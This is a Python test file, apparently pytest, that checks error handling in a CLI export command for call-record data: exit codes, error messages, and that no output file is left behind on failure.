def test_cli_bad_query_rule_exits_2_with_its_path(cdrwh_home, tmp_path):
    build_serving(cdrwh_home / "serving.duckdb")
    query = tmp_path / "rules.json"
    query.write_text(json.dumps({"match": "all", "rules": [{"match": "any", "rules": [rule("x", "=", 1)]}]}))
    result = cdrwh(
        cdrwh_home, "export", "--layout", "flowroute", "--from", "2026-11-20", "--to", "2026-11-21",
        "--query", str(query), "--out", str(tmp_path / "x.csv"),
    )  # fmt: skip
    assert result.returncode == 2
    assert "query rules[0].rules[0]: unknown field 'x'" in result.stderr
    assert not (tmp_path / "x.csv").exists()


def test_cli_without_a_snapshot_exits_1(cdrwh_home, tmp_path):
    result = cdrwh(
        cdrwh_home, "export", "--layout", "flowroute", "--window", "today", "--out", str(tmp_path / "x.csv")
    )
    assert result.returncode == 1
    assert "no serving snapshot" in result.stderr


def test_cli_a_failing_read_exits_1_and_writes_nothing(cdrwh_home, tmp_path):
    build_serving(cdrwh_home / "serving.duckdb")
    result = cdrwh(
        cdrwh_home, "export", "--layout", "callr", "--from", "2026-11-20", "--to", "2026-11-20",
        "--out", str(tmp_path / "x.ndjson"),
    )  # fmt: skip
    assert result.returncode == 1
    assert "failed, nothing written" in result.stderr and "boom" in result.stderr
    assert list(tmp_path.glob("*x.ndjson*")) == []
